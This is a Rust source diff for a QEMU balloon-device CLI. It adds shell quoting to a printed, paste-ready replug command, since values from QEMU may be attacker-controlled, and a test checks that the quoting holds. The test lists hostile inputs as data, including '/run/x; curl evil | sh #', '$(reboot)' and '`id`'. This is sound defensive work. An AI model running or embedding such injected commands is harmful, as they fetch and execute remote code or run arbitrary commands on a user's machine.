@@ -7,7 +7,7 @@ use std::path::PathBuf;
 use clap::Args;
 
 use super::qmp::{self, Place, Plug};
-use crate::error::Error;
+use crate::error::{Error, refuse};
 
 /// Options. What the device in the machine says wins over them.
 #[derive(Args)]
@@ -73,13 +73,63 @@ pub fn unplug(arguments: &Out) -> Result<u8, Error> {
         "demeter: {} is out; the guest keeps its pages for a minute",
         plug.id
     );
-    println!(
-        "demeter balloon replug --qmp {} --id {} --chardev {} --socket {} --bus {}",
-        arguments.qmp.display(),
-        plug.id,
-        plug.chardev,
-        plug.socket,
-        plug.bus
-    );
+    let qmp = arguments.qmp.to_string_lossy();
+    let mut command = "demeter balloon replug".to_owned();
+    for (option, value) in [
+        ("qmp", qmp.as_ref()),
+        ("id", &plug.id),
+        ("chardev", &plug.chardev),
+        ("socket", &plug.socket),
+        ("bus", &plug.bus),
+    ] {
+        command.push_str(&format!(" --{option} {}", word(value)?));
+    }
+    println!("{command}");
     Ok(0)
+}
+
+/// A word for a shell, which somebody will paste: QEMU said what is in it, and a guest may have
+/// become QEMU.
+fn word(text: &str) -> Result<String, Error> {
+    if text.chars().any(|letter| letter.is_control()) {
+        return Err(refuse(
+            format!("the machine names {text:?}, which no socket or bus is called"),
+            "distrust it; plug the device in again with --socket and --bus of its description",
+        ));
+    }
+    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_-./:,+=@%".contains(letter);
+    if !text.is_empty() && text.chars().all(plain) {
+        return Ok(text.to_owned());
+    }
+    Ok(format!("'{}'", text.replace('\'', r"'\''")))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_to_be_pasted_is_words_and_nothing_else() {
+        assert_eq!(
+            word("/run/demeter/web.sock").unwrap(),
+            "/run/demeter/web.sock"
+        );
+        for hostile in [
+            "/run/x; curl evil | sh #",
+            "$(reboot)",
+            "it's",
+            "a b",
+            "",
+            "`id`",
+            "~",
+        ] {
+            let quoted = word(hostile).unwrap();
+            let out = std::process::Command::new("sh")
+                .args(["-c", &format!("printf %s {quoted}")])
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8_lossy(&out.stdout), hostile);
+        }
+        assert!(word("\u{1b}]0;title\u{7}").is_err() && word("a\nb").is_err());
+    }
 }
